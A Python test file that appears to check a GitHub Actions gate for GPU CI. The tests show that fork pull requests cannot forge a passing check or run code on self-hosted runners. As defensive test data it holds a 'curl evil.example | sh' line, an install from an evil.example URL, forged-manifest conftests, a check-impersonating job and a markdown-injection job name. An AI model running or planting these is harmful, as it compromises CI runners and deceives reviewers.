"""The trigger chain as an upstream repository runs it: the shipped workflow files
(examples/upstream/ calling .github/workflows/), played by tests/actions.py as GitHub documents each
event, against the loopback GitHub.

The happy paths end with exactly one check on the PR's head with the right conclusion; each attack
of the issue "A required check that cannot be forged" (docs/reference.md, "Threat model") is a case
that ends without a green check and without the fork's code on a GPU runner.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest
from actions import PYTEST_ROCM, Actions
from conftest import REPO
from github_api import example, validate_webhook
from upstream_repo import (  # noqa: F401 (the names the tests here and beside them use)
    APP_ID,
    CHECK,
    EXAMPLES,
    GATE_PIN,
    GATES,
    PIN,
    REGRESSION,
    checks,
    loopback_github,
    one_class,
    repository,
    set_gate_input,
)

# each event runs the workflows' jobs: real git, real pytest with xdist workers
pytestmark = pytest.mark.slow


@pytest.fixture
def github(tmp_path):
    with loopback_github() as fake:
        yield fake
        assert fake.errors == [], (
            "the loopback GitHub sent a response GitHub's description does not allow"
        )


@pytest.fixture
def upstream(github, tmp_path) -> Actions:
    return repository(github, tmp_path)


def on_gpu(upstream: Actions) -> list[str]:
    """Jobs a self-hosted GPU runner took, in every run so far."""
    return [j.name for run in upstream.runs for j in run.jobs if j.runner_group]


def test_a_same_repository_pr_ends_with_one_green_check_on_its_head(upstream, github):
    pull = upstream.open_pull(101, {"vllm/model.py": "x = 1\n"}, fork=False, author="maintainer")
    run = upstream.pull_request(pull, "opened", "maintainer")
    gate = run.job("/ gate")
    assert gate.runner_group == "rocm-mi300x-8" and gate.conclusion == "success", gate.steps
    assert (PYTEST_ROCM, PIN) in gate.checkouts and (upstream.repo, pull.merge) in gate.checkouts
    [check] = checks(github, pull.head)
    assert (check["status"], check["conclusion"]) == ("completed", "success"), check["output"][
        "summary"
    ]
    assert check["external_id"] == str(run.id)
    assert github.checks(pull.merge) == []  # never on the merge commit the run tested
    summary = check["output"]["summary"]
    assert f"Tested commit {pull.merge[:12]}: the merge of {pull.head[:12]}" in summary
    assert "MI300X" in summary and "SIMULATED" not in summary


def test_an_approved_fork_pr_waits_then_ends_with_one_check_on_its_head(upstream, github):
    pull = upstream.open_pull(102, {"vllm/model.py": "x = 2\n"}, fork=True)
    opened = upstream.pull_request(pull, "opened", "forker")
    assert on_gpu(upstream) == [] and opened.job("/ trust").outputs["trusted"] == "false"
    [waiting] = checks(github, pull.head)
    assert (waiting["conclusion"], waiting["output"]["title"]) == (
        "action_required",
        "Waiting for approval",
    )
    labeled = upstream.pull_request(pull, "labeled", "maintainer", label="rocm-ci-approved")
    assert on_gpu(upstream) == ["gate (mi300x-8) / gate"]
    [check] = checks(github, pull.head)  # the placeholder was taken over: still one check
    assert check["id"] == waiting["id"] and check["external_id"] == str(labeled.id)
    assert check["conclusion"] == "success", check["output"]["summary"]


def test_a_new_push_to_an_approved_fork_pr_needs_a_new_approval(upstream, github):
    pull = upstream.open_pull(103, {"vllm/model.py": "x = 3\n"}, fork=True)
    upstream.pull_request(pull, "labeled", "maintainer", label="rocm-ci-approved")
    first = pull.head
    upstream.push_to_pull(
        pull, {"vllm/model.py": "import os; os.system('curl evil.example | sh')\n"}
    )
    upstream.pull_request(pull, "synchronize", "forker")
    assert on_gpu(upstream) == ["gate (mi300x-8) / gate"]  # only the approved commit's run
    assert [c["conclusion"] for c in checks(github, first)] == ["success"]
    [waiting] = checks(github, pull.head)
    assert (
        waiting["conclusion"] == "action_required"
        and "again after a new push" in waiting["output"]["summary"]
    )


def test_a_label_by_someone_without_write_access_approves_nothing(upstream, github):
    pull = upstream.open_pull(104, {"vllm/model.py": "x = 4\n"}, fork=True)
    for who in ("triager", "reader"):
        upstream.pull_request(pull, "labeled", who, label="rocm-ci-approved")
    assert on_gpu(upstream) == []
    assert [c["conclusion"] for c in checks(github, pull.head)] == ["action_required"]


FORK_CALLER_IGNORING_LABELS = """
name: rocm-gate
on:
  pull_request:
    types: [opened, synchronize, reopened, labeled]
permissions: {}
jobs:
  gate:
    permissions:
      contents: read
      actions: read
    uses: rocm/pytest-rocm/.github/workflows/rocm-gate.yml@%s
    with:
      runner-class: mi300x-8
      suites: tests -m rocm_gate
"""


@pytest.mark.parametrize("caller", ["shipped", "fork's copy without the label filter"])
def test_another_label_on_an_approved_fork_pr_changes_nothing(upstream, github, caller):
    files = {"vllm/model.py": "x = 5\n"}
    if caller != "shipped":
        files[".github/workflows/rocm-gate.yml"] = FORK_CALLER_IGNORING_LABELS % PIN
    pull = upstream.open_pull(105, files, fork=True)
    if caller == "shipped":
        upstream.pull_request(pull, "labeled", "maintainer", label="rocm-ci-approved")
    else:  # a fork PR that changes .github/ is approved by a dispatch, which runs the default branch's files
        upstream.dispatch(
            "rocm-gate.yml",
            {
                "sha": pull.head,
                "pr": str(pull.number),
                "runner-class": "",
                "scope": "all",
                "previous-run": "",
            },
            "maintainer",
        )
    [before] = checks(github, pull.head)
    assert before["conclusion"] == "success"
    run = upstream.pull_request(pull, "labeled", "maintainer", label="documentation")
    assert len(on_gpu(upstream)) == 1  # the approval's run only
    if caller != "shipped":
        assert run.job("/ trust").outputs["trusted"] == "false"
    [after] = checks(github, pull.head)
    # not a newer action_required check over the passed one, not even an update
    assert after == before


def fork_caller(jobs: str) -> dict:
    return {
        ".github/workflows/rocm-gate.yml": "name: rocm-gate\non:\n  pull_request:\n    types: [opened, synchronize, "
        "reopened, labeled]\npermissions: {}\njobs:\n" + jobs
    }


CALLER_WITH_INPUTS = """  gate:
    uses: rocm/pytest-rocm/.github/workflows/rocm-gate.yml@%s
    with:
      runner-class: mi300x-8
      %s
"""


@pytest.mark.parametrize(
    "extra", ["pytest-rocm: git+https://evil.example/pytest-rocm", "approval-label: documentation"]
)
def test_a_fork_caller_cannot_choose_the_code_that_decides_or_the_label(upstream, github, extra):
    pull = upstream.open_pull(106, fork_caller(CALLER_WITH_INPUTS % (PIN, extra)), fork=True)
    run = upstream.pull_request(pull, "labeled", "maintainer", label="documentation")
    assert (
        run.conclusion == "startup_failure"
        and "is not defined in the referenced workflow" in run.jobs[-1].name
    )
    # no job of the gate run ran, not even trust
    assert [j.name for j in run.jobs] == [run.jobs[-1].name]
    assert not any("evil" in line for line in upstream.installs()) and on_gpu(upstream) == []
    assert all(c["conclusion"] != "success" for c in checks(github, pull.head))


DIRECT_GPU_JOB = """  pwn:
    runs-on: [self-hosted, mi300x-8]
    steps:
      - run: echo "the fork's code on a GPU runner" && touch /tmp/pwned
"""
OTHER_PIN = """  gate:
    uses: rocm/pytest-rocm/.github/workflows/rocm-gate.yml@0000000000000000000000000000000000000001
    with:
      runner-class: mi300x-8
"""


@pytest.mark.parametrize(
    "jobs", [DIRECT_GPU_JOB, OTHER_PIN], ids=["own job on the runner", "another pin"]
)
def test_a_fork_caller_never_gets_a_gpu_runner_even_after_approval(upstream, github, jobs):
    pull = upstream.open_pull(107, fork_caller(jobs), fork=True)
    run = upstream.pull_request(pull, "labeled", "maintainer", label="rocm-ci-approved")
    assert on_gpu(upstream) == []
    if jobs is DIRECT_GPU_JOB:
        [refused] = [j for j in run.jobs if j.runs_on and "self-hosted" in j.runs_on]
        assert refused.runner_group is None and refused.conclusion == "cancelled"
        assert "admits only jobs of" in refused.steps[0]["output"]
    else:  # its trust job (any pin's) refuses a label on a fork PR that changes .github/
        assert "review them and approve by dispatching" in run.job("/ trust").steps[-1]["output"]
    [check] = checks(github, pull.head)
    assert check["conclusion"] == "action_required"


FAKE_RESULTS_JOB = """  gate:
    runs-on: ubuntu-latest
    steps:
      - run: |
          mkdir -p tests/fake && printf 'import pytest\\n@pytest.mark.rocm_gate(group="api")\\ndef test_ok():\\n    pass\\n' > tests/fake/test_ok.py
          python -m pytest tests/fake --rocm-platform=mi300x-8 --rocm-report-dir=out/gate -p no:cacheprovider || true
      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2
        with:
          name: rocm-gate-results-mi300x-8
          path: out/gate/
%s"""
ALSO_CALL_THE_PIN = """  decoy:
    uses: rocm/pytest-rocm/.github/workflows/rocm-gate.yml@%s
    with:
      runner-class: mi300x-8
"""


@pytest.mark.parametrize(
    "decoy", [False, True], ids=["hosted job only", "and a call of the pinned workflow"]
)
def test_results_a_fork_made_on_a_hosted_runner_never_make_a_green_check(upstream, github, decoy):
    jobs = FAKE_RESULTS_JOB % (ALSO_CALL_THE_PIN % PIN if decoy else "")
    pull = upstream.open_pull(
        108,
        {
            **fork_caller(""),
            ".github/workflows/rocm-gate.yml": fork_caller(jobs)[".github/workflows/rocm-gate.yml"],
        },
        fork=True,
    )
    run = upstream.pull_request(pull, "opened", "forker")
    # the forged results were uploaded
    assert [j.conclusion for j in run.jobs if j.name == "gate"] == ["success"]
    assert any(
        a["name"] == "rocm-gate-results-mi300x-8" and a["run_id"] == run.id
        for a in github.artifacts.values()
    )
    [check] = checks(github, pull.head)
    assert (
        check["conclusion"] == "action_required"
        and check["output"]["title"] == "Waiting for approval"
    )
    why = (
        "did not use the pinned gate workflow"
        if not decoy
        else "no job of the run ran on the runner group"
    )
    assert why in check["output"]["summary"]


SIMULATING_INI = {"pytest.ini": "[pytest]\naddopts = --rocm-platform=mi300x-8\n"}
LYING_CONFTEST = '''
import json, os, pathlib

def pytest_unconfigure(config):
    """Runs after the plugin wrote its artifacts: claim that the run tested another commit."""
    path = pathlib.Path(os.environ["GITHUB_WORKSPACE"]) / "out" / "gate" / "manifest.json"
    manifest = json.loads(path.read_text())
    manifest["git_sha"] = manifest["provenance"]["head_sha"] = manifest["provenance"]["tested_sha"] = "%s"
    path.write_text(json.dumps(manifest))
'''


SIMULATING_CONFTEST = {
    "tests/conftest.py": "import os\n\nos.environ['PYTEST_ROCM_PLATFORM'] = 'mi300x-8'\n"
}


def test_an_approved_run_on_a_simulated_platform_is_refused(upstream, github):
    """A PR's code that makes the run simulate its platform (in plain sight: a conftest) gets no
    check from it; a PR's `addopts` cannot even ask (the default branch's settings apply, and the
    check names the PR's)."""
    pull = upstream.open_pull(109, SIMULATING_CONFTEST, fork=False, author="maintainer")
    upstream.pull_request(pull, "opened", "maintainer")
    [check] = checks(github, pull.head)
    assert (
        check["conclusion"] == "action_required"
        and "simulated platform profile 'mi300x-8'" in check["output"]["summary"]
    ), check["output"]["summary"]
    asked = upstream.open_pull(110, SIMULATING_INI, fork=False, author="maintainer")
    upstream.pull_request(asked, "opened", "maintainer")
    [check] = checks(github, asked.head)
    summary = check["output"]["summary"]
    assert check["conclusion"] == "success" and "SIMULATED" not in summary, summary
    assert "this PR changes the rules of the verdict" in summary and "rocm-platform" in summary


def test_results_that_claim_another_commit_put_no_check_on_it(upstream, github):
    target = upstream.main()
    pull = upstream.open_pull(
        110, {"tests/conftest.py": LYING_CONFTEST % target}, fork=False, author="maintainer"
    )
    upstream.pull_request(pull, "opened", "maintainer")
    assert checks(github, target) == []
    [check] = checks(github, pull.head)
    assert check["conclusion"] == "action_required"
    assert f"the results say the head commit was {target}" in check["output"]["summary"]


UNKNOWN_TESTED_CONFTEST = '''
import json, os, pathlib

def pytest_unconfigure(config):
    """Claims a tested commit this repository does not have (the head stays the PR's)."""
    path = pathlib.Path(os.environ["GITHUB_WORKSPACE"]) / "out" / "gate" / "manifest.json"
    manifest = json.loads(path.read_text())
    manifest["git_sha"] = manifest["provenance"]["tested_sha"] = "f" * 40
    path.write_text(json.dumps(manifest))
'''


def test_results_that_name_a_commit_github_does_not_have_complete_a_blocking_check(
    upstream, github
):
    """GitHub answers a SHA it does not have with 422, not 404: the publish stopped at that answer
    and the check made when the run started stayed running, blocking with no word of why."""
    pull = upstream.open_pull(
        118, {"tests/conftest.py": UNKNOWN_TESTED_CONFTEST}, fork=False, author="maintainer"
    )
    upstream.pull_request(pull, "opened", "maintainer")
    [check] = checks(github, pull.head)
    assert (check["status"], check["conclusion"]) == ("completed", "action_required")
    assert (
        f"the results say they tested {'f' * 40}, which this repository does not have"
        in (check["output"]["summary"])
    )


def click(
    upstream, github, check: dict, tmp_path, identifier: str | None = None
) -> subprocess.CompletedProcess:
    """What the relay does with the App's `check_run` webhook for a click on `check`
    (docs/github.md, "Buttons"): a button (`identifier`) or GitHub's own Re-run, handed to
    `rocm-gate rerun` with the App's token."""
    action = "requested_action" if identifier else "rerequested"
    event = example(f"check_run.{action}")
    event["check_run"].update(
        name=check["name"], head_sha=check["head_sha"], external_id=check["external_id"]
    )
    event["check_run"]["output"]["title"] = check["output"]["title"]
    if identifier:
        event["requested_action"] = {"identifier": identifier}
    event["sender"]["login"] = "maintainer"
    event["repository"]["default_branch"] = "main"
    validate_webhook(f"check-run-{action.replace('_', '-')}", event)
    path = tmp_path / "click.json"
    path.write_text(json.dumps(event))
    github.tokens.add("ghs_relay")
    return subprocess.run(
        [sys.executable, "-m", "rocm_gate.cli", "rerun", "--event-path", str(path)],
        env={
            **os.environ,
            "GITHUB_API_URL": github.url,
            "ROCM_GATE_PACE": "0",
            "GITHUB_REPOSITORY": upstream.repo,
            "GITHUB_TOKEN": "ghs_relay",
        },
        capture_output=True,
        text=True,
        timeout=120,
    )


def rerun_button(upstream, github, check: dict, identifier: str, tmp_path):
    """A button click, and the dispatch the relay makes of it run as GitHub runs it."""
    done = click(upstream, github, check, tmp_path, identifier)
    assert done.returncode == 0, done.stderr
    sent = github.dispatches[-1]
    return upstream.dispatch(sent["workflow"], sent["inputs"], "rocm-gate[bot]", ref=sent["ref"])


def test_re_run_amd_reruns_the_failures_and_lands_on_the_prs_head(upstream, github, tmp_path):
    pull = upstream.open_pull(111, REGRESSION, fork=True)
    first = upstream.pull_request(pull, "labeled", "maintainer", label="rocm-ci-approved")
    [failed] = checks(github, pull.head)
    assert (
        failed["conclusion"] == "failure"
        and "paged attention output differs" in failed["output"]["summary"]
    )
    rerun = rerun_button(upstream, github, failed, "rerun-amd", tmp_path)
    assert rerun.event == "workflow_dispatch"
    assert github.workflow_runs[rerun.id]["display_title"] == f"rocm-gate dispatch {pull.head}"
    ran = rerun.job("/ gate").steps
    [gates] = [s for s in ran if s["name"] == "run the gates"]
    # only the failure
    assert "test_paged_attention" in gates["output"] and "test_chat" not in gates["output"]
    assert checks(github, upstream.main()) == []  # not on the default branch the dispatch ran from
    older, newer = checks(github, pull.head)
    assert older["id"] == failed["id"] and newer["external_id"] == str(rerun.id) != str(first.id)
    assert newer["conclusion"] == "failure"


def test_the_merge_queue_gets_its_check_on_the_groups_commit(upstream, github):
    pull = upstream.open_pull(112, {"vllm/model.py": "x = 12\n"}, fork=True)
    upstream.pull_request(pull, "labeled", "maintainer", label="rocm-ci-approved")
    queued = upstream.merge_group(pull)
    group = github.workflow_runs[queued.id]["head_sha"]
    [check] = checks(github, group)
    assert check["conclusion"] == "success" and check["external_id"] == str(queued.id)


def test_a_check_left_running_is_finished_by_the_scheduled_sweep(upstream, github):
    """The gate run's `completed` event never reaches the publish workflow (a lost webhook, a
    publish job that failed): its check would stay in_progress and block forever. The sweep
    publishes it from GitHub's facts."""
    upstream.undelivered.add("completed")
    pull = upstream.open_pull(113, {"vllm/model.py": "x = 13\n"}, fork=False, author="maintainer")
    run = upstream.pull_request(pull, "opened", "maintainer")
    [check] = checks(github, pull.head)
    assert check["status"] == "in_progress"
    upstream.undelivered.clear()
    swept = upstream.schedule("rocm-gate-sweep.yml")
    step = swept.job("/ sweep").steps[-1]
    assert (
        step["conclusion"] == "success"
        and f"run {run.id} mi300x-8: published: success" in step["output"]
    ), step
    [check] = checks(github, pull.head)
    assert (check["status"], check["conclusion"], check["external_id"]) == (
        "completed",
        "success",
        str(run.id),
    )
    again = upstream.schedule("rocm-gate-sweep.yml")
    # nothing left to do
    assert "0 run(s) needed something" in again.job("/ sweep").steps[-1]["output"]


ONCE = (
    "import pathlib\nimport pytest\n\n@pytest.mark.rocm_gate(group='attention')\n"
    "def test_passes_only_the_first_time():\n    state = pathlib.Path(%r)\n"
    "    first = not state.exists()\n    state.touch()\n    assert first, 'broke'\n"
)


def test_the_sweep_never_puts_an_older_runs_result_over_a_newer_one(upstream, github, tmp_path):
    """A run's publishes were lost (`requested` and `completed`); a newer run of the same commit
    failed and published. The sweep finished the older run and wrote its `success` as the newest
    check of the name, the one GitHub shows, over the newer `failure`."""
    pull = upstream.open_pull(
        119,
        {"tests/kernels/attention/test_once.py": ONCE % str(tmp_path / "ran")},
        fork=False,
        author="maintainer",
    )
    upstream.undelivered |= {"requested", "completed"}
    first = upstream.pull_request(pull, "opened", "maintainer")
    upstream.undelivered.clear()
    assert checks(github, pull.head) == []
    # a maintainer runs the gate again on the same commit, a little later
    upstream.advance(40)
    second = upstream.dispatch(
        "rocm-gate.yml",
        {"sha": pull.head, "scope": "all", "runner-class": "mi300x-8", "pr": str(pull.number)},
        "maintainer",
    )
    [newer] = checks(github, pull.head)
    assert (newer["conclusion"], newer["external_id"]) == ("failure", str(second.id))
    swept = upstream.schedule("rocm-gate-sweep.yml")
    out = swept.job("/ sweep").steps[-1]["output"]
    assert f"run {first.id} mi300x-8: nothing: a later run's check" in out, out
    assert [c["external_id"] for c in checks(github, pull.head)] == [str(second.id)]


TWICE = (
    "import pathlib\nimport pytest\n\n@pytest.mark.rocm_gate(group='attention')\n"
    "def test_passes_twice():\n    state = pathlib.Path(%r)\n"
    "    runs = int(state.read_text()) if state.exists() else 0\n"
    "    state.write_text(str(runs + 1))\n    assert runs < 2, 'broke on the third run'\n"
)


def test_a_re_run_of_an_older_run_that_ends_last_decides_the_check(upstream, github, tmp_path):
    """Run A passes; run B, newer, passes; A is re-run (attempt 2, same id) and ends after B,
    failing. Time orders runs: A's attempt 2 is the later result, and its `failure` is the check
    GitHub shows, never B's older `success` (issue 59: ids ordered it, and A published nothing)."""
    state = tmp_path / "count"
    pull = upstream.open_pull(
        124,
        {"tests/kernels/attention/test_twice.py": TWICE % str(state)},
        fork=False,
        author="maintainer",
    )
    first = upstream.pull_request(pull, "opened", "maintainer")
    upstream.advance(40)
    upstream.dispatch(
        "rocm-gate.yml",
        {"sha": pull.head, "scope": "all", "runner-class": "mi300x-8", "pr": str(pull.number)},
        "maintainer",
    )
    assert [c["conclusion"] for c in checks(github, pull.head)] == ["success", "success"]
    upstream.advance(40)
    again = upstream.rerun(first)
    assert again.id == first.id
    newest = checks(github, pull.head)[-1]
    assert (newest["external_id"], newest["conclusion"]) == (f"{first.id}-2", "failure"), [
        (c["external_id"], c["conclusion"]) for c in checks(github, pull.head)
    ]


def test_a_check_the_sweep_cannot_finish_offers_no_rerun_that_would_approve(
    upstream, github, tmp_path
):
    """An unapproved fork run's check was left running and GitHub kept failing the sweep's reads:
    the sweep completed it `timed_out` with a "Re-run all" button, and a writer's click dispatched
    the fork's commit, which the dispatch then approved. Now it has no button, and a click (GitHub's
    own Re-run) approves nothing."""
    import datetime as dt

    from rocm_gate.github import api
    from rocm_gate.github.publishing import Options
    from rocm_gate.github.sweep import sweep

    pull = upstream.open_pull(120, {"vllm/model.py": "x = 20\n"}, fork=True)
    upstream.undelivered.add("completed")
    run = upstream.pull_request(pull, "opened", "forker")
    upstream.undelivered.clear()
    [running] = checks(github, pull.head)
    assert running["status"] == "in_progress"
    github.script_for = [("get", f"/repos/{upstream.repo}/actions/runs/{run.id}", "502")] * 6
    app = api.connect(
        github.url, app_id=str(APP_ID), private_key=github.private_key, installation_id="77"
    )
    client = api.Client(app, upstream.repo, backoff=0.0, settle_s=0.0, pace_s=0.0, app_id=APP_ID)
    later = dt.datetime.now(dt.UTC) + dt.timedelta(hours=1)
    classes = [(Options("mi300x-8", GATE_PIN, "rocm-mi300x-8"), "mi300x-8")]
    done = sweep(client, "rocm-gate.yml", classes, now=later)
    assert [d.action for d in done if d.run_id == run.id][-1] == "timed_out", done
    [stuck] = checks(github, pull.head)
    assert stuck["conclusion"] == "timed_out" and stuck["output"]["title"].startswith("Unfinished")
    assert not stuck.get("actions")
    clicked = click(upstream, github, stuck, tmp_path)
    assert clicked.returncode == 0 and "ignored" in clicked.stdout, clicked.stdout + clicked.stderr
    assert github.dispatches == [] and on_gpu(upstream) == []


def test_the_sweep_judges_a_blocked_check_again_against_a_newer_trunk_state(upstream, github):
    """A PR's check was published blocking on a failure no main run had shown yet. Main's next
    trunk state has it, failing the same way: the sweep (`--trunk`) publishes the check again
    against it, and it no longer blocks; a second sweep leaves it alone."""
    import datetime as dt
    import io
    import zipfile

    from pytest_rocm.results.fingerprint import of_test
    from pytest_rocm.schemas.artifacts import manifest_stack
    from rocm_gate.github import api
    from rocm_gate.github.publishing import Options
    from rocm_gate.github.sweep import sweep

    # main's state alone judges here: no base experiment (it would show the base passing)
    set_gate_input(upstream, "base-check-minutes", "0")
    pull = upstream.open_pull(121, REGRESSION, fork=False, author="maintainer")
    run = upstream.pull_request(pull, "opened", "maintainer")
    [blocked] = checks(github, pull.head)
    assert blocked["conclusion"] == "failure"
    [results] = [a for a in github.artifacts.values() if a["run_id"] == run.id]
    with zipfile.ZipFile(io.BytesIO(results["data"])) as folder:
        name = next(n for n in folder.namelist() if n.endswith("gate-report.json"))
        report = json.loads(folder.read(name))
    failing = {n: t for n, t in report["tests"].items() if t["verdict"] == "regression"}
    base = (
        github.workflow_runs[run.id].get("base_sha") or report["manifest"]["provenance"]["base_sha"]
    )
    later = (dt.datetime.now(dt.UTC) + dt.timedelta(minutes=5)).isoformat(timespec="seconds")
    trunk = {
        "schema": "pytest-rocm/trunk/1",
        "sku": "/".join(manifest_stack(report["manifest"])["skus"]),
        "generated": later,
        "window": 30,
        "main_runs": 1,
        "main_commits": 1,
        "newest": {"sha": base, "started": later},
        "commits": [base],
        "tests": {
            n: {
                "state": "failing",
                "flaky_commits": [],
                "flaky_count": 0,
                "flips": 0,
                "since": {"sha": base, "started": later},
                "last_green": None,
                "fingerprints": [of_test(t)],
            }
            for n, t in failing.items()
        },
    }
    app = api.connect(
        github.url, app_id=str(APP_ID), private_key=github.private_key, installation_id="77"
    )
    client = api.Client(app, upstream.repo, backoff=0.0, settle_s=0.0, pace_s=0.0, app_id=APP_ID)
    classes = [(Options("mi300x-8", GATE_PIN, "rocm-mi300x-8", trunk=[trunk]), "mi300x-8")]
    done = sweep(client, "rocm-gate.yml", classes)
    assert [d.action for d in done if d.run_id == run.id] == [
        f"judged again against main's newer state: published: {checks(github, pull.head)[0]['conclusion']}"
    ], done
    [check] = checks(github, pull.head)
    assert check["id"] == blocked["id"] and check["conclusion"] != "failure", check["output"][
        "summary"
    ][:3000]
    assert "Pre-existing on main (not blocking) (1)" in check["output"]["summary"]
    assert [d for d in sweep(client, "rocm-gate.yml", classes) if d.run_id == run.id] == []


def test_the_publishes_of_one_run_never_overlap(upstream, github):
    """`requested` and `completed` publishes of a run share one concurrency group (one running, one
    pending: docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#concurrency), not cancelled."""
    pull = upstream.open_pull(114, {"vllm/model.py": "x = 14\n"}, fork=False, author="maintainer")
    run = upstream.pull_request(pull, "opened", "maintainer")
    groups = [j.concurrency for r in run.triggered for j in r.jobs if j.name.endswith("/ publish")]
    assert groups == [f"rocm-gate-publish-{run.id}-mi300x-8"] * 2
    spec = (REPO / ".github/workflows/rocm-gate-publish.yml").read_text()
    assert "cancel-in-progress: false" in spec


HOSTILE_JOB_NAME = """  gate:
    name: "gate\\n\\n# EVIL heading [EVIL](https://evil.example) @evil-team"
    uses: rocm/pytest-rocm/.github/workflows/rocm-gate.yml@%s
    with:
      runner-class: mi300x-8
      suites: tests -m rocm_gate
"""


def test_names_a_caller_gives_its_jobs_stay_text_in_the_check(upstream, github):
    from test_untrusted_results import render

    pull = upstream.open_pull(
        115, fork_caller(HOSTILE_JOB_NAME % PIN), fork=False, author="maintainer"
    )
    upstream.pull_request(pull, "opened", "maintainer")
    [check] = checks(github, pull.head)
    assert check["conclusion"] == "success", check["output"]["summary"]
    page = render(check["output"]["summary"])
    assert not [href for href in page.links if "evil" in (href or "")]
    assert all("code" in around for text, around in page.texts if "EVIL" in text or "@evil" in text)


def test_a_re_run_of_the_workflow_run_gets_a_check_of_its_own(upstream, github):
    """GitHub's "Re-run jobs" keeps the run id: the re-run's result must not land on the first
    attempt's check, whose annotations GitHub cannot remove."""
    pull = upstream.open_pull(116, REGRESSION, fork=False, author="maintainer")
    first = upstream.pull_request(pull, "opened", "maintainer")
    [failed] = checks(github, pull.head)
    assert failed["conclusion"] == "failure" and github.annotations[failed["id"]]
    again = upstream.rerun(first)
    assert again.id == first.id and github.workflow_runs[first.id]["run_attempt"] == 2
    older, newer = checks(github, pull.head)
    assert older["id"] == failed["id"] and older["external_id"] == str(first.id)
    assert newer["external_id"] == f"{first.id}-2" and newer["conclusion"] == "failure"


IMPERSONATOR = {
    "vllm/model.py": "x = 17\n",
    ".github/workflows/impersonate.yml": """
name: impersonate
on: pull_request
permissions: {}
jobs:
  wait:
    runs-on: ubuntu-latest
    steps:
      - run: sleep 1
  fake:
    needs: wait
    name: rocm-gate / MI300X-8
    runs-on: ubuntu-latest
    steps:
      - run: "true"
""",
}


def test_a_fork_job_named_like_the_check_is_not_taken_for_an_approved_result(upstream, github):
    """Actions makes a check run per job, named after it: a fork's job called `rocm-gate / MI300X-8`
    that succeeds must not be read as an approved run's result, nor copied onto the App's check."""
    pull = upstream.open_pull(117, IMPERSONATOR, fork=True)
    upstream.pull_request(pull, "opened", "forker")
    fake = [c for c in github.checks(pull.head, CHECK) if c["app_id"] != APP_ID]
    assert [c["conclusion"] for c in fake] == ["success"]  # the impersonation exists
    [ours] = checks(github, pull.head)
    assert (
        ours["conclusion"] == "action_required"
        and ours["output"]["title"] == "Waiting for approval"
    )


def test_a_rerun_click_on_a_waiting_check_approves_nothing(upstream, github, tmp_path):
    pull = upstream.open_pull(118, {"vllm/model.py": "x = 18\n"}, fork=True)
    upstream.pull_request(pull, "opened", "forker")
    [waiting] = checks(github, pull.head)
    done = click(upstream, github, waiting, tmp_path)
    assert (
        done.returncode == 0 and "ignored" in done.stdout and "approve it on purpose" in done.stdout
    )
    assert github.dispatches == [] and on_gpu(upstream) == []
